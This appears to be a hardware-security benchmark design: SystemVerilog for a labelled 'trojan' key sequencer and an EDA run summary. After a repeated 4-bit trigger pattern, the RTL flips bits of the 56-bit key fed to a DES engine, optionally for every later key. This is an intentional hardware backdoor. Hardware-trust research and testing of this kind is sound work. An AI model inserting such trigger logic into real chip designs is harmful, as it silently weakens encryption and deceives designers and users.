--- src/rtl/trojan_pkg.sv ---
// Shared types and default constants for the trojan key sequencer and its key stage.
package trojan_pkg;

   typedef enum logic [1:0] {
      IDLE  = 2'd0,
      COUNT = 2'd1,
      ARMED = 2'd2
   } state_t;

   localparam int              KEY_W_DEF     = 56;
   localparam int              TRIG_W_DEF    = 32;
   localparam logic [3:0]      COND_DEF      = 4'b0101;
   localparam logic [55:0]     FLIP_MASK_DEF = 56'h1;

   function automatic logic [7:0] sat_inc8(input logic [7:0] v);
      return (v == 8'hFF) ? v : v + 8'd1;
   endfunction

endpackage

--- src/rtl/trojan_key_stage.sv ---
// One-entry valid/ready key register; the captured key is XORed with FLIP_MASK when xor_en_i is high.
module trojan_key_stage
   import trojan_pkg::*;
#(
   parameter int               KEY_W     = KEY_W_DEF,
   parameter logic [KEY_W-1:0] FLIP_MASK = KEY_W'(FLIP_MASK_DEF)
) (
   input  logic             clk,
   input  logic             rst_n,
   input  logic             in_valid_i,
   output logic             in_ready_o,
   input  logic [KEY_W-1:0] in_data_i,
   input  logic             xor_en_i,
   output logic             out_valid_o,
   input  logic             out_ready_i,
   output logic [KEY_W-1:0] out_data_o,
   output logic             capture_o
);

   logic             valid_q, valid_d;
   logic [KEY_W-1:0] data_q, data_d;

   // Accepting while the held key drains gives one key per cycle.
   assign in_ready_o = !valid_q || out_ready_i;
   assign capture_o  = in_valid_i && in_ready_o;

   always_comb begin
      valid_d = valid_q;
      data_d  = data_q;
      if (capture_o) begin
         valid_d = 1'b1;
         data_d  = in_data_i ^ (xor_en_i ? FLIP_MASK : '0);
      end else if (out_ready_i) begin
         valid_d = 1'b0;
      end
   end

   always_ff @(posedge clk or negedge rst_n) begin
      if (!rst_n) begin
         valid_q <= 1'b0;
         data_q  <= '0;
      end else begin
         valid_q <= valid_d;
         data_q  <= data_d;
      end
   end

   assign out_valid_o = valid_q;
   assign out_data_o  = data_q;

endmodule

--- src/rtl/trojan_key_sequencer.sv ---
// Trigger-armed key corruption in front of the DES key input.
// Build option TROJAN_STICKY_EN: once armed, stay armed and corrupt every later key.
module trojan_key_sequencer
   import trojan_pkg::*;
#(
   parameter int               KEY_W     = KEY_W_DEF,
   parameter int               TRIG_W    = TRIG_W_DEF,
   parameter logic [3:0]       COND      = COND_DEF,
   parameter int               ARM_COUNT = 3,
   parameter logic [KEY_W-1:0] FLIP_MASK = KEY_W'(FLIP_MASK_DEF)
) (
   input  logic              clk,
   input  logic              rst_n,
   input  logic              trig_valid,
   input  logic [TRIG_W-1:0] trigger,
   input  logic              key_in_valid,
   output logic              key_in_ready,
   input  logic [KEY_W-1:0]  key_in,
   output logic              key_out_valid,
   input  logic              key_out_ready,
   output logic [KEY_W-1:0]  payload,
   output logic              armed,
   output logic [7:0]        fire_cnt
);

   state_t     state_q, state_d;
   logic [3:0] cnt_q, cnt_d;
   logic [3:0] cnt_inc;
   logic [7:0] fire_q, fire_d;
   logic       armed_q;
   logic       match;
   logic       capture;
   logic       xor_en;
   logic       unused_trig;

   assign unused_trig = ^trigger[TRIG_W-1:4];
   assign match       = (trigger[3:0] == COND);
   assign cnt_inc     = cnt_q + 4'd1;
   // Uses the current state, so a capture in the arming cycle itself stays clean.
   assign xor_en      = (state_q == ARMED);

   trojan_key_stage #(
      .KEY_W     (KEY_W),
      .FLIP_MASK (FLIP_MASK)
   ) u_stage (
      .clk         (clk),
      .rst_n       (rst_n),
      .in_valid_i  (key_in_valid),
      .in_ready_o  (key_in_ready),
      .in_data_i   (key_in),
      .xor_en_i    (xor_en),
      .out_valid_o (key_out_valid),
      .out_ready_i (key_out_ready),
      .out_data_o  (payload),
      .capture_o   (capture)
   );

   always_comb begin
      state_d = state_q;
      cnt_d   = cnt_q;
      fire_d  = fire_q;
      case (state_q)
         IDLE: begin
            if (trig_valid && match) begin
               cnt_d   = 4'd1;
               state_d = (ARM_COUNT == 1) ? ARMED : COUNT;
            end
         end
         COUNT: begin
            // Cycles without trig_valid leave the partial count untouched.
            if (trig_valid) begin
               if (match) begin
                  cnt_d = cnt_inc;
                  if (cnt_inc == 4'(ARM_COUNT)) state_d = ARMED;
               end else begin
                  cnt_d   = 4'd0;
                  state_d = IDLE;
               end
            end
         end
         ARMED: begin
            if (capture) begin
               fire_d = sat_inc8(fire_q);
`ifndef TROJAN_STICKY_EN
               state_d = IDLE;
               cnt_d   = 4'd0;
`endif
            end
         end
         default: begin
            state_d = IDLE;
            cnt_d   = 4'd0;
         end
      endcase
   end

   always_ff @(posedge clk or negedge rst_n) begin
      if (!rst_n) begin
         state_q <= IDLE;
         cnt_q   <= 4'd0;
         fire_q  <= 8'd0;
         armed_q <= 1'b0;
      end else begin
         state_q <= state_d;
         cnt_q   <= cnt_d;
         fire_q  <= fire_d;
         armed_q <= (state_d == ARMED);
      end
   end

   assign armed    = armed_q;
   assign fire_cnt = fire_q;

endmodule

--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_key_sequencer
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_pkg.sv /design/src/rtl/trojan_key_stage.sv /design/src/rtl/trojan_key_sequencer.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 40
export CORE_ASPECT_RATIO = 0.9
export CORE_UTILIZATION = 45
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4
export DETAILED_ROUTE_END_ITERATION = 16
export PLACE_DENSITY_LB_ADDON = 0.2
export REMOVE_ABC_BUFFERS = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name clk -period 3.82 [get_ports clk]
set_input_delay 0.764 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.764 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> run summary <==
via count -> 2882
Post-DP HPWL -> 5.47 mm
final core utilization -> 68.8%
Yosys top cell area share -> 55.4%
register bit count reported by yosys -> 72
# setup viols final -> 0
Die ar. -> 0.00757 mm²
PnR Total Power -> 2080 µW
maximum capacitance violations -> 0
CP Class -> input port to output pin
FF-to-FF path depth -> 6
top cells by area, synth -> dfrtp_1 (55%), nand2_1 (18%), nand3_1 (9.7%)
Vias/cell -> 4.76
Hold Fails Final Rpt -> 0
relative slew slack -> 61.2%
post-CTS setup buffer count -> 0
number of synthesized flops with an enable pin -> 0
LEAKAGE -> 0.00234 µW
largest net degree at the start of global routing -> 61
Seq. cell area -> 0.00180 mm²
Max Slew Vio Count -> 0
Cell variety after synth -> 26
Hold Path Class -> input port to asynchronous set/reset pin
Clock Tree Buf Depth -> 2
CTS tree -> built
fin crit share -> 73.4%
multi-input logic area -> 0.00126 mm²
Root Driver -> clkbuf_4
Residual DRC -> 0
worst path required time -> 3.06 ns
buffers added on ports -> 131
post-route minimum period -> 2.80 ns
Area growth, synth to finish -> 48.2%
GPL Wtd Cong -> 0.810
clock skew -> 0.0139 ns
width of the chip -> 91.6 µm
GRT Resource Usage Total -> 22.0%
Post-Syn Area -> 0.00325 mm²
Iteration-0 DRC Markers -> 163
Die Y -> 82.6 µm
RSZ-0062 raised after global routing -> false
worst reg2reg setup slack -> 2.09 ns
worst-path fanout max -> 2
worst vdd ir -> 0.304 mV
initial antenna violation count -> 0
grt ovf -> 0
pre-CTS WS -> 1.02 ns
Initial Util -> 46.4%
FF-to-FF Start -> u_stage/out_valid_o
ys flop type -> dfrtp_1
nature of the critical path endpoint -> output pin
Final WS setup -> 1.02 ns
most frequent cell after synthesis -> nand2_1
Syn Inst Count -> 379
total CTS buffers -> 9
post-synthesis sequential area ratio -> 55.4%
Ports -> 160
CTS sink cnt -> 72
Synth top cells by count -> nand2_1 (160), dfrtp_1 (72), nand3_1 (63)
FF-to-FF End -> u_stage/out_data_o[22]
leading area contributor after synthesis -> dfrtp_1
Max Freq -> 0.357 GHz
Clk Latency, worst-skew pair -> 0.42 ns
antenna-violating nets left -> 0
core area -> 0.00700 mm²
Worst-path clk slew -> 0.11 ns
crit-path cells -> clkdlybuf4s50_1 > inv_2 > nand2_2 > clkdlybuf4s50_1
Ys Warns -> 6
status -> completed
final net count -> 603
hold_buf cts -> 0
share of layout cells above drive strength 1 -> 8.20%
Post-Route WL -> 7.93 mm
iteration count of the initial detailed-routing pass -> 6
vias in the first global route -> 2819
Critical Path Start Type -> input port
WL/cell -> 13.1 µm
worst slew pin tran -> 0.582 ns
Synth Area per Inst -> 8.58 µm²
first-pass GRT wire length -> 13.0 mm
CP peak stage delay -> 0.67 ns
antenna fix cells -> 0
worst hold slack -> 0.186 ns
most used cell, CP -> clkdlybuf4s50_1
fillers -> 560
Setup TNS Final -> 0 ns
H-tree levels -> 3
CTS resizes -> 0
row cnt -> 29
ys async rst share -> 100%
Pwr Density -> 432 mW/mm²
critical path's slowest cell -> clkdlybuf4s50_1
Data arrival, critical path -> 2.04 ns
metal layers:
metal | routed length (µm) | vias up | track usage, %
met2 | 3600 | 92 | 34.4
met1 | 3400 | 1335 | 26.9
met3 | 844 | 10 | 11.4
li1 | - | 1445 | -
met4 | 79 | 0 | 6.19
met5 | 0 | - | 0
cells by family (layout without fill, tap and decap cells):
family | Yosys count | count (layout) | share of synthesized area, %
buffers and inverters | 38 | 171 | 5.97
AND/OR/NAND/NOR | 254 | 254 | 34.3
XOR/XNOR | 5 | 5 | 1.35
flip-flops | 72 | 72 | 55.4
AO/OA/AOI/OAI | 7 | 7 | 1.77
adder cells (fa/ha/maj) | 3 | 3 | 1.15
worst max path at each step:
stage | from | end | slack [ns]
floorplan | key_out_ready | u_stage/out_data_o[0] | 1.14
global placement | key_out_ready | key_in_ready | 1.03
detailed placement | key_out_ready | key_in_ready | 1.02
CTS | key_out_ready | key_in_ready | 1.01
global route | key_out_ready | key_in_ready | 0.97
finish | key_out_ready | key_in_ready | 1.02
report_power, final:
| part | internal, µW | switching, µW |
|---|---|---|
| clock | 398 | 274 |
| combinational | 245 | 259 |
| sequential | 847 | 56.0 |
| total | 1490 | 589 |
area by class of cell:
type | instances | share of cell area (%)
clock inverters | 7 | 2.99
flip-flops and latches | 72 | 37.4
inverters | 20 | 1.56
repair buffers | 135 | 28.1
well taps | 93 | 2.42
clock buffers | 9 | 1.40
multi-input cells | 269 | 26.1
critical path, delay by kind of cell:
family        cells  cell delay [ns]
simple gates      1             0.07
buf+inv           3             1.20
stage by stage:
| stage | cell area (µm²) | instances |
|---|---|---|
| after floorplan | 3130 | 361 |
| after global placement | 4580 | 588 |
| after detailed placement | 4600 | 589 |
| after CTS | 4820 | 605 |
| after global routing | 4820 | 605 |
| final | 4820 | 605 |
registers in the layout (all words and copies together) (netlist names):
register             cells
armed                    1
state_q                  2
cnt_q                    4
u_stage/out_valid_o      1
fire_cnt                 8
u_stage/out_data_o      56
cell usage in the layout (no fill, tap or decap), drive strengths merged:
cell             n
nand4            4
inv             20
clkinvlp         2
clkinv           1
bufinv           4
ha               3
xor2             2
xnor2            3
buf              6
nand2          167
a21oi            4
clkbuf           9
clkdlybuf4s50  129
o21ai            3
and2             1
dfrtp           72
nor3             1
nor2            16
nand3b           1
nand3           64
No activity file was read; power rests on OpenSTA's default activity.
